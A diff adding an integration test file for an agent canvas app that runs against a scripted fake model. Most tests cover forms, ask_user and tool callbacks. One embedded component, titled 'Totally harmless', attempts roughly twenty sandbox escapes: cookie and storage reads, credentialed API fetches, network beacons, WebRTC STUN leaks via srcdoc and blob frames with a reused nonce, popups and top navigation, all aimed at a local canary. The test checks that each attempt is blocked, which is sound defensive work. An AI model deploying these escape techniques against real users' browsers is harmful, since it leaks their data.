@@ -1,0 +1,304 @@
+// The canvas against a real `wright serve` and a scripted model on the OpenAI wire (see
+// harness.ts), in Debian's Chromium: a form the model renders, filled and submitted, reaches
+// the model; ask_user with options; a component that answers through callTool; the server
+// killed while a form is pending, then the form answered and the run resumed; and every
+// isolation rule of the component frame tried as an attack from inside a component.
+//
+// Needs the built app (`npm run build`), the built binary (`cargo build`) and Chromium; it is
+// skipped without them.
+import { createSocket, type Socket } from 'node:dgram';
+import { existsSync } from 'node:fs';
+import { createServer, type Server } from 'node:http';
+import type { AddressInfo } from 'node:net';
+import { join } from 'node:path';
+import type { Browser, BrowserContext, Page } from 'playwright-core';
+import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
+import { hasChromium, launch } from './browser';
+import { hasWright, scenarioOf, startFakeModel, startWright, toolResults, type FakeModel, type ModelReply, type ModelRequest, type Wright } from './harness';
+
+const built = existsSync(join(import.meta.dirname, '..', 'dist', 'index.html'));
+
+// Where an escaped request from a component would land: an HTTP server (fetch, images,
+// forms, navigations, WebSockets, popups) and a UDP socket (WebRTC's STUN).
+interface Canary {
+  url: string;
+  stun: string;
+  hits: string[];
+  close(): Promise<void>;
+}
+
+async function startCanary(): Promise<Canary> {
+  const hits: string[] = [];
+  const http: Server = createServer((request, response) => {
+    hits.push(`http ${request.method} ${request.url}`);
+    response.writeHead(200, { 'content-type': 'text/plain', 'access-control-allow-origin': '*' }).end('leaked');
+  });
+  http.on('upgrade', (request, socket) => {
+    hits.push(`upgrade ${request.url}`);
+    socket.destroy();
+  });
+  await new Promise<void>((done) => http.listen(0, '127.0.0.1', done));
+  const udp: Socket = createSocket('udp4');
+  udp.on('message', (message) => hits.push(`udp ${message.length} bytes`));
+  await new Promise<void>((done) => udp.bind(0, '127.0.0.1', done));
+  return {
+    url: `http://127.0.0.1:${(http.address() as AddressInfo).port}`,
+    stun: `stun:127.0.0.1:${udp.address().port}`,
+    hits,
+    close: async () => {
+      udp.close();
+      await new Promise((done) => http.close(done));
+    },
+  };
+}
+
+const FORM = {
+  title: 'Weekly budget',
+  blocks: [
+    { type: 'markdown', content: 'Set a **budget** for groceries.' },
+    {
+      type: 'form',
+      submitLabel: 'Set budget',
+      fields: [
+        { name: 'budget', label: 'Budget', type: 'number', required: true },
+        { name: 'shop', label: 'Shop', type: 'select', options: ['Market', 'Supermarket'], default: 'Market' },
+        { name: 'remind', label: 'Remind me', type: 'checkbox', default: false },
+      ],
+    },
+  ],
+};
+
+const PICKER = `import { useState } from 'react';
+export default function Picker({ colours }) {
+  const [chosen, setChosen] = useState(colours[0]);
+  return <Card><Stack>
+    <Row>{colours.map(c => <Button key={c} onClick={() => setChosen(c)}>{c}</Button>)}</Row>
+    <Text>Chosen: {chosen}</Text>
+    <Button variant="primary" onClick={() => callTool('choose', { colour: chosen })}>Use it</Button>
+  </Stack></Card>;
+}`;
+
+// Each attempt returns a value when it got through and throws (or returns undefined) when it
+// was stopped; the canary sees whatever left the frame regardless of what the code believes.
+const ATTACK = `import { useEffect, useState } from 'react';
+const sleep = (ms) => new Promise((done) => setTimeout(done, ms));
+async function rtc(Peer, stun) {
+  const peer = new Peer({ iceServers: [{ urls: stun }] });
+  peer.createDataChannel('leak');
+  await peer.setLocalDescription(await peer.createOffer());
+  await sleep(1500);
+  const candidates = (peer.localDescription?.sdp ?? '').match(/a=candidate/g);
+  peer.close();
+  return candidates ? candidates.length + ' ICE candidates' : undefined;
+}
+const attacks = {
+  cookies: () => document.cookie || undefined,
+  storage: () => { localStorage.setItem('leak', '1'); return 'localStorage works'; },
+  parentDom: () => window.parent.document.title,
+  topUrl: () => window.top.location.href,
+  apiFetch: async (p) => (await fetch(p.api + '/api/agents', { credentials: 'include' })).status,
+  fetch: async (p) => (await fetch(p.canary + '/fetch')).status,
+  xhr: (p) => new Promise((done, fail) => { const x = new XMLHttpRequest(); x.open('GET', p.canary + '/xhr'); x.onload = () => done(x.status); x.onerror = fail; x.send(); }),
+  websocket: (p) => new Promise((done, fail) => { const ws = new WebSocket(p.canary.replace('http', 'ws') + '/ws'); ws.onopen = () => done('open'); ws.onerror = fail; ws.onclose = fail; }),
+  image: (p) => new Promise((done, fail) => { const img = new Image(); img.onload = () => done('loaded'); img.onerror = fail; img.src = p.canary + '/image.png'; }),
+  beacon: (p) => { navigator.sendBeacon(p.canary + '/beacon', 'leak'); return undefined; },
+  prefetch: (p) => { const l = document.createElement('link'); l.rel = 'prefetch'; l.href = p.canary + '/prefetch'; document.head.appendChild(l); return undefined; },
+  form: (p) => { const f = document.createElement('form'); f.method = 'POST'; f.action = p.canary + '/form'; document.body.appendChild(f); f.submit(); return undefined; },
+  childFrame: (p) => { const f = document.createElement('iframe'); f.src = p.canary + '/frame'; document.body.appendChild(f); return undefined; },
+  webrtc: (p) => rtc(window.RTCPeerConnection, p.stun),
+  webrtcFromChildRealm: (p) => {
+    const f = document.createElement('iframe');
+    document.body.appendChild(f);
+    return rtc(f.contentWindow.RTCPeerConnection, p.stun);
+  },
+  webrtcFromSrcdocChild: (p) => {
+    const scriptNonce = [...document.scripts].map((script) => script.nonce).find(Boolean) ?? '';
+    const f = document.createElement('iframe');
+    f.srcdoc = '<script nonce="' + scriptNonce + '">const peer = new RTCPeerConnection({ iceServers: [{ urls: "' + p.stun + '" }] }); peer.createDataChannel("x"); peer.createOffer().then((o) => peer.setLocalDescription(o));</' + 'script>';
+    document.body.appendChild(f);
+    return sleep(1500).then(() => undefined);
+  },
+  webrtcFromBlobChild: (p) => {
+    const html = '<script>const peer = new RTCPeerConnection({ iceServers: [{ urls: "' + p.stun + '" }] }); peer.createDataChannel("x"); peer.createOffer().then((o) => peer.setLocalDescription(o));</' + 'script>';
+    const f = document.createElement('iframe');
+    f.src = URL.createObjectURL(new Blob([html], { type: 'text/html' }));
+    document.body.appendChild(f);
+    return sleep(1500).then(() => undefined);
+  },
+  innerHtml: () => { document.createElement('div').innerHTML = '<b>x</b>'; return 'innerHTML works'; },
+  evalCode: () => (0, eval)('"eval works"'),
+  popup: (p) => (window.open(p.canary + '/popup') ? 'popup opened' : undefined),
+  topNavigation: (p) => { window.top.location.href = p.canary + '/top'; return undefined; },
+};
+export default function Attack(props) {
+  const [report, setReport] = useState(null);
+  useEffect(() => {
+    (async () => {
+      const results = {};
+      for (const [name, attempt] of Object.entries(attacks)) {
+        try {
+          const value = await attempt(props);
+          results[name] = value === undefined ? 'blocked' : 'OPEN: ' + String(value).slice(0, 100);
+        } catch (error) {
+          results[name] = 'blocked: ' + String(error?.message ?? error?.type ?? error).slice(0, 100);
+        }
+      }
+      await sleep(500);
+      setReport(results);
+      await callTool('report', { results });
+      // last: navigate this frame itself to the canary
+      location.href = props.canary + '/self-navigation';
+    })();
+  }, []);
+  return <Card><Text>{report ? 'Attacks done' : 'Attacking…'}</Text></Card>;
+}`;
+
+/** The scripted model: the first user message names the scenario; tool results drive it on. */
+function model(canaryOf: () => Canary, api: () => string) {
+  return (request: ModelRequest): ModelReply => {
+    const results = toolResults(request);
+    const scenario = scenarioOf(request);
+    if (results.length > 0) return { text: `Model received: ${results[results.length - 1]}` };
+    switch (scenario) {
+      case 'form':
+      case 'restart':
+        return { toolCalls: [{ name: 'render_blocks', arguments: FORM }] };
+      case 'ask':
+        return { toolCalls: [{ name: 'ask_user', arguments: { question: 'Deploy to production now?', options: ['Deploy', 'Wait until Monday'] } }] };
+      case 'component':
+        return { toolCalls: [{ name: 'render_and_wait', arguments: { title: 'Pick a colour', code: PICKER, props: { colours: ['teal', 'amber', 'violet'] } } }] };
+      case 'attack':
+        return { toolCalls: [{ name: 'render_and_wait', arguments: { title: 'Totally harmless', code: ATTACK, props: { canary: canaryOf().url, stun: canaryOf().stun, api: api() } } }] };
+      default:
+        return { text: 'Hello.' };
+    }
+  };
+}
+
+describe.skipIf(!built || !hasChromium || !hasWright)('canvas against wright serve and a scripted model', () => {
+  let fake: FakeModel;
+  let wright: Wright;
+  let canary: Canary;
+  let browser: Browser;
+  let context: BrowserContext;
+  let page: Page;
+  const popups: string[] = [];
+
+  const login = async () => {
+    await page.goto(wright.url);
+    await page.locator('#token').fill(wright.token);
+    await page.keyboard.press('Enter');
+    await page.getByRole('button', { name: '+ New conversation' }).waitFor();
+  };
+
+  /** Starts a conversation from the UI with the scenario's message; returns its id. */
+  const startConversation = async (scenario: string) => {
+    const previous = page.url();
+    await page.getByRole('button', { name: '+ New conversation' }).click();
+    await page.waitForURL((url) => /\/c\/[^/]+$/.test(url.pathname) && url.href !== previous);
+    const message = page.getByLabel('Message');
+    await message.fill(`scenario:${scenario}`);
+    await message.press('Enter');
+    return page.url().split('/c/')[1];
+  };
+
+  /** The tool result the model got for this scenario, once the run has come back to it. */
+  const resultSeenByModel = async (scenario: string) => {
+    let seen: string | undefined;
+    await expect
+      .poll(() => {
+        seen = fake.requests.filter((request) => scenarioOf(request) === scenario).map((request) => toolResults(request)[0]).find(Boolean);
+        return seen !== undefined;
+      }, { timeout: 20_000 })
+      .toBe(true);
+    return JSON.parse(seen!);
+  };
+
+  beforeAll(async () => {
+    canary = await startCanary();
+    fake = await startFakeModel(model(() => canary, () => wright.url));
+    wright = await startWright(fake);
+    browser = await launch();
+    context = await browser.newContext({ viewport: { width: 1440, height: 900 } });
+    page = await context.newPage();
+    context.on('page', (opened) => popups.push(opened.url()));
+    await login();
+  });
+  afterEach(async (context) => {
+    // a failing test leaves a picture of the page and the server's output behind
+    if (context.task.result?.state === 'fail') {
+      const name = context.task.name.replace(/\W+/g, '-').slice(0, 60);
+      await page.screenshot({ path: join(import.meta.dirname, '..', 'test-results', `live-${name}.png`) }).catch(() => {});
+      console.error(`wright serve output:\n${wright.log().slice(-4000)}`);
+    }
+  });
+  afterAll(async () => {
+    await browser?.close();
+    await wright?.stop();
+    await fake?.close();
+    await canary?.close();
+  });
+
+  it('the model renders a form; the filled form reaches the model, which answers', async () => {
+    await startConversation('form');
+    const canvas = page.getByRole('region', { name: 'Canvas' });
+    await canvas.getByLabel(/Budget/).fill('150');
+    await canvas.getByLabel(/Shop/).selectOption('Supermarket');
+    await canvas.getByLabel(/Remind me/).check();
+    await canvas.getByRole('button', { name: 'Set budget' }).click();
+    expect(await resultSeenByModel('form')).toEqual({ action: 'submit', data: { budget: 150, shop: 'Supermarket', remind: true } });
+    await page.getByRole('region', { name: 'Chat' }).getByText(/Model received: .*"budget":150/).waitFor();
+  });
+
+  it('ask_user shows its options and the chosen one reaches the model', async () => {
+    await startConversation('ask');
+    const asks = page.getByRole('group', { name: 'The agent asks' });
+    await asks.getByText('Deploy to production now?').waitFor();
+    await asks.getByRole('button', { name: 'Wait until Monday' }).click();
+    expect(JSON.stringify(await resultSeenByModel('ask'))).toContain('Wait until Monday');
+    await page.getByText(/Model received: .*Wait until Monday/).waitFor();
+  });
+
+  it('a component answers the paused call through callTool', async () => {
+    await startConversation('component');
+    const frame = page.frameLocator('iframe[title="Pick a colour"]');
+    await frame.getByRole('button', { name: 'amber' }).click();
+    await frame.getByText('Chosen: amber').waitFor();
+    await frame.getByRole('button', { name: 'Use it' }).click();
+    expect(await resultSeenByModel('component')).toEqual({ action: 'choose', colour: 'amber' });
+    await page.getByText(/Model received: .*amber/).waitFor();
+  });
+
+  it('a pending form survives a crash of the server and answering it resumes the run', async () => {
+    const conversation = await startConversation('restart');
+    const canvas = page.getByRole('region', { name: 'Canvas' });
+    await canvas.getByLabel(/Budget/).waitFor();
+    await wright.restart();
+    await page.goto(`${wright.url}/agents/default/c/${conversation}`);
+    if (await page.locator('#token').isVisible().catch(() => false)) {
+      await page.locator('#token').fill(wright.token);
+      await page.keyboard.press('Enter');
+    }
+    await canvas.getByLabel(/Budget/).fill('99');
+    await canvas.getByRole('button', { name: 'Set budget' }).click();
+    expect(await resultSeenByModel('restart')).toEqual({ action: 'submit', data: { budget: 99, shop: 'Market', remind: false } });
+    await page.getByText(/Model received: .*"budget":99/).waitFor();
+  });
+
+  it('a component cannot reach cookies, storage, the API, the network or other windows', async () => {
+    const before = page.url();
+    await startConversation('attack');
+    const report = await resultSeenByModel('attack');
+    expect(report.action).toBe('report');
+    const results = report.results as Record<string, string>;
+    const open = Object.entries(results).filter(([, outcome]) => !outcome.startsWith('blocked'));
+    expect(open, `${JSON.stringify(results, null, 1)}\ncanary: ${JSON.stringify(canary.hits)}`).toEqual([]);
+    expect(Object.keys(results).length).toBe(21);
+    // give late requests (beacon, prefetch, STUN retries, the self-navigation) time to land
+    await page.waitForTimeout(2000);
+    expect(canary.hits).toEqual([]);
+    expect(popups).toEqual([]);
+    expect(page.url()).not.toBe(before);
+    expect(page.url()).toContain(wright.url);
+  });
+});
